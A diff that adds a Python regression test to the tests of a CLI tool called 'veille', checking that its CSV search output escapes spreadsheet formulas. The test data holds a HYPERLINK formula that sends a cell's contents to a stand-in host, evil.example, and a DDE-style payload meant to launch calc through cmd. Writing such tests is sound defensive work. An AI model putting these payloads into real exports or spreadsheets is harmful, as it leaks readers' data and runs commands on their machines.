@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -124,6 +126,20 @@ def test_search_command_filters_sorts_and_highlights(ws: Workspace) -> None:
     assert code == 0 and "1 post matched; 1 shown." in out
     code, _, err = run("search", '"lumio', "-w", root)
     assert code == 2 and "unclosed quote" in err
+
+
+def test_search_as_csv_gives_a_spreadsheet_no_formula(ws: Workspace) -> None:
+    """A stranger's post read by `veille search -f csv`: its text and author
+    went into the CSV as they were, and a spreadsheet ran them as the
+    reader's formulas, as `veille export` no longer lets them."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"lumio refund")'
+    ws.store.upsert_posts([make_post("9", evil, handle="@SUM(1+1)*cmd|' /C calc'!A0")])
+    code, out, _ = run("search", "lumio", "-w", str(ws.root), "-f", "csv")
+    assert code == 0, out
+    row = next(csv.DictReader(io.StringIO(out)))
+    assert row["text"] == "'" + evil
+    assert row["author"].startswith("'@SUM(")
+    assert row["id"] == "mastodon:9"
 
 
 def test_query_match_reads_queries_and_posts(tmp_path: Path) -> None:
